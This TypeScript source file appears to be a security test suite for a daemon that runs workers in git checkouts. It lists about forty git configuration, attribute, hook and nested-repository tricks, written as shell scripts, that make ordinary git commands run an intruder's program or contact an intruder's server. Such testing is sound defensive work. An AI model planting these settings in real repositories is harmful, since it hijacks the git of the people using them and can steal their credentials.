import { type Attack, quoted, type Scene } from './attack.ts';

/*
 * Settings, attributes, hooks, addresses and repositories that a worker writes where the daemon's git works, too. Each leads plain git to a program or
 * a server of the intruder's.
 */

type Settings = (scene: Scene) => Readonly<Record<string, string>>;

const lines = (settings: Readonly<Record<string, string>>): string =>
  Object.entries(settings)
    .map(([key, value]) => `git config ${quoted(key)} ${quoted(value)}`)
    .join('\n');

const bySettings = (point: 1 | 2, what: string, settings: Settings, more: (scene: Scene) => string = () => ''): Attack => ({
  point,
  what,
  script: (scene) => `${lines(settings(scene))}\n${more(scene)}`,
});

const COMMON = '$(git rev-parse --git-common-dir)';
const attributes = (line: string): string => `mkdir -p "${COMMON}/info"; echo ${quoted(line)} >>"${COMMON}/info/attributes"`;
const hook =
  (folder: string, name: string) =>
  ({ program }: Scene): string =>
    `mkdir -p ${folder}; cp ${program} ${folder}/${name}`;
const included = ({ folder, program }: Scene): string =>
  `printf '[filter "x"]\\n\\tclean = ${program}\\n' >${folder}/included; ${attributes('* filter=x')}`;
const inner = (key: string, { program }: Scene): string =>
  `git init -q inner; (cd inner; echo a >f.txt; echo '*.txt filter=x' >.gitattributes; git add -A; git -c user.name=x -c user.email=x@x commit -qm x; git config ${key} ${program}; echo b >f.txt)`;

const REMOTE: readonly Attack[] = [
  bySettings(1, 'remote.origin.url', ({ wire }) => ({ 'remote.origin.url': wire.url })),
  bySettings(1, 'remote.origin.pushurl', ({ wire }) => ({ 'remote.origin.pushurl': wire.url })),
  bySettings(1, 'url.*.insteadOf', ({ wire, place }) => ({ [`url.${wire.url}/.insteadOf`]: place.fake.url })),
  bySettings(1, 'url.*.pushInsteadOf', ({ wire, place }) => ({ [`url.${wire.url}/.pushInsteadOf`]: place.fake.url })),
  bySettings(1, 'http.proxy', ({ wire }) => ({ 'http.proxy': wire.url })),
  bySettings(1, 'http.<url>.proxy', ({ wire, place }) => ({ [`http.${place.fake.url}.proxy`]: wire.url })),
  bySettings(1, 'remote.origin.proxy', ({ wire }) => ({ 'remote.origin.proxy': wire.url })),
  bySettings(1, 'remote.pushDefault', ({ wire }) => ({ 'remote.evil.url': wire.url, 'remote.pushDefault': 'evil' })),
  bySettings(1, 'branch.*.pushRemote', ({ wire, task }) => ({ [`branch.auto/${task}.pushRemote`]: wire.url })),
  bySettings(1, 'branch.*.remote', ({ wire, task }) => ({
    [`branch.auto/${task}.remote`]: wire.url,
    [`branch.auto/${task}.merge`]: 'refs/heads/main',
  })),
  {
    point: 1,
    what: 'a proxy in a file that is included',
    script: ({ folder, wire }) => `printf '[http]\\n\\tproxy = ${wire.url}\\n' >${folder}/more; git config include.path ${folder}/more`,
  },
  {
    point: 1,
    what: 'a proxy in config.worktree',
    script: ({ wire }) =>
      `git config extensions.worktreeConfig true; for at in "${COMMON}" "$(git rev-parse --git-dir)"; do printf '[http]\\n\\tproxy = ${wire.url}\\n' >"$at/config.worktree"; done`,
  },
  bySettings(1, 'an address of ext::', ({ program }) => ({ 'protocol.ext.allow': 'always', 'remote.origin.url': `ext::${program}` })),
  bySettings(1, 'an address of ext:: by insteadOf', ({ program, place }) => ({
    'protocol.ext.allow': 'always',
    [`url.ext::${program} .insteadOf`]: place.fake.cloneUrl,
  })),
  bySettings(1, 'core.sshCommand', ({ program }) => ({ 'core.sshCommand': program, 'remote.origin.url': 'ssh://localhost:1/x' })),
  bySettings(1, 'core.gitProxy', ({ program }) => ({ 'core.gitProxy': program, 'remote.origin.url': 'git://localhost:1/x' })),
  bySettings(1, 'core.askPass', ({ program }) => ({ 'core.askPass': program })),
  bySettings(1, 'credential.helper', ({ program }) => ({ 'credential.helper': `!${program}` })),
  bySettings(1, 'credential.<url>.helper', ({ program, place }) => ({ [`credential.${place.fake.url}.helper`]: `!${program}` })),
  bySettings(1, 'remote.origin.uploadpack', ({ program, place }) => ({
    'remote.origin.url': place.root,
    'remote.origin.uploadpack': program,
  })),
  bySettings(1, 'remote.origin.receivepack', ({ program, place }) => ({
    'remote.origin.pushurl': place.root,
    'remote.origin.receivepack': program,
  })),
  { point: 1, what: 'a pre-push hook', script: hook(`"${COMMON}/hooks"`, 'pre-push') },
];

const LOCAL: readonly Attack[] = [
  ...['clean', 'smudge', 'process'].map((way) =>
    bySettings(
      2,
      `filter.*.${way} by info/attributes`,
      ({ program }) => ({ [`filter.x.${way}`]: program }),
      () => attributes('* filter=x'),
    ),
  ),
  bySettings(
    2,
    'a required filter',
    ({ program }) => ({ 'filter.x.clean': program, 'filter.x.required': 'true' }),
    () => attributes('* filter=x'),
  ),
  bySettings(
    2,
    'a filter by .gitattributes',
    ({ program }) => ({ 'filter.x.clean': program }),
    () => `echo '* filter=x' >.gitattributes`,
  ),
  bySettings(
    2,
    'a filter by core.attributesFile',
    ({ program, folder }) => ({ 'filter.x.clean': program, 'core.attributesFile': `${folder}/attributes` }),
    ({ folder }) => `echo '* filter=x' >${folder}/attributes`,
  ),
  bySettings(2, 'core.fsmonitor', ({ program }) => ({ 'core.fsmonitor': program })),
  bySettings(
    2,
    'core.hooksPath',
    ({ folder }) => ({ 'core.hooksPath': `${folder}/hooks` }),
    (scene) => hook(`${scene.folder}/hooks`, 'pre-commit')(scene),
  ),
  bySettings(
    2,
    'diff.*.textconv',
    ({ program }) => ({ 'diff.x.textconv': program }),
    () => attributes('* diff=x'),
  ),
  bySettings(
    2,
    'diff.*.command',
    ({ program }) => ({ 'diff.x.command': program }),
    () => attributes('* diff=x'),
  ),
  bySettings(2, 'diff.external', ({ program }) => ({ 'diff.external': program })),
  bySettings(2, 'core.editor', ({ program }) => ({ 'core.editor': program })),
  bySettings(2, 'gpg.program', ({ program }) => ({ 'gpg.program': program, 'commit.gpgSign': 'true' })),
  bySettings(
    2,
    'a merge driver',
    ({ program }) => ({ 'merge.x.driver': `${program} %A` }),
    () => attributes('* merge=x'),
  ),
  bySettings(2, 'include.path', ({ folder }) => ({ 'include.path': `${folder}/included` }), included),
  bySettings(2, 'includeIf gitdir', ({ folder, place }) => ({ [`includeIf.gitdir:${place.root}/.path`]: `${folder}/included` }), included),
  bySettings(2, 'includeIf onbranch', ({ folder }) => ({ 'includeIf.onbranch:**.path': `${folder}/included` }), included),
  {
    point: 2,
    what: 'a filter in config.worktree',
    script: ({ program }) =>
      `git config extensions.worktreeConfig true; for at in "${COMMON}" "$(git rev-parse --git-dir)"; do printf '[filter "x"]\\n\\tclean = ${program}\\n' >"$at/config.worktree"; done; ${attributes('* filter=x')}`,
  },
  ...['pre-commit', 'post-checkout', 'post-index-change', 'reference-transaction', 'commit-msg'].map(
    (name): Attack => ({ point: 2, what: `a ${name} hook`, script: hook(`"${COMMON}/hooks"`, name) }),
  ),
  bySettings(2, 'a lazy fetch', ({ program }) => ({
    'core.sshCommand': program,
    'remote.far.url': 'ssh://localhost:1/x',
    'remote.far.promisor': 'true',
  })),
  { point: 2, what: 'a repository inside with core.fsmonitor', script: (scene) => `${inner('core.fsmonitor', scene)}; git add -A inner` },
  { point: 2, what: 'a repository inside with a filter', script: (scene) => `${inner('filter.x.clean', scene)}; git add -A inner` },
  {
    point: 2,
    what: 'settings beside the daemon’s own git',
    script: ({ place, program }) =>
      `printf '[core]\\n\\tfsmonitor = ${program}\\n' >>${place.root}/.tac8/git/gitconfig; cp ${program} ${place.root}/.tac8/git/exec/git`,
    twin: ({ place, person, program }) => person(['git', '-c', `core.fsmonitor=${program}`, 'status'], place.root),
  },
  {
    point: 2,
    what: 'settings in the view that the daemon’s git is given',
    script: ({ place, program }) =>
      `for at in ${place.root}/.tac8/git/views/*/; do printf '[core]\\n\\tfsmonitor = ${program}\\n' >>"$at/config"; mkdir -p "$at/hooks"; cp ${program} "$at/hooks/pre-commit"; done`,
    twin: ({ place, person, program }) => person(['git', '-c', `core.fsmonitor=${program}`, 'status'], place.root),
  },
];

export const GIT: readonly Attack[] = [...REMOTE, ...LOCAL];

/** Plain git where the worker was, as a person types it or as a daemon without the safeguard would call it. Much of it fails; it ends once it is heard. */
export async function plainly({ person, tree, place, folder, heard }: Scene): Promise<void> {
  const away = `${folder}/plain`;
  for (const args of [
    ['cat-file', '-e', 'd'.repeat(40)],
    ['status'],
    ['diff'],
    ['diff', '--no-ext-diff'],
    ['add', '-A'],
    ['commit', '-m', 'x'],
    ['commit', '--no-gpg-sign', '--allow-empty'],
    ['worktree', 'add', '--force', '--detach', away, 'main'],
    ['fetch', 'origin'],
    ['fetch'],
    ['push', 'origin', 'HEAD:refs/heads/plain'],
    ['-c', 'push.default=current', 'push'],
    // A hook is asked only where the remote has let git in.
    ['push', '--force', place.root, 'HEAD:refs/heads/plain'],
  ])
    if (!heard()) await person(['git', ...args], tree);
  await person(['/bin/sh', '-c', '[ ! -e inner ] || { cd inner && git diff && git status; }'], tree);
  // Both change the same line of a file, so that they have to be merged.
  const branches =
    'git checkout -q --detach; echo one >README.md; git commit -qam one; git branch -f plain-a; git checkout -q --detach HEAD~1; echo two >README.md; git commit -qam two; git merge plain-a';
  if (!heard()) await person(['/bin/sh', '-c', branches], away);
  await person(['git', 'worktree', 'remove', '--force', away], place.root);
}
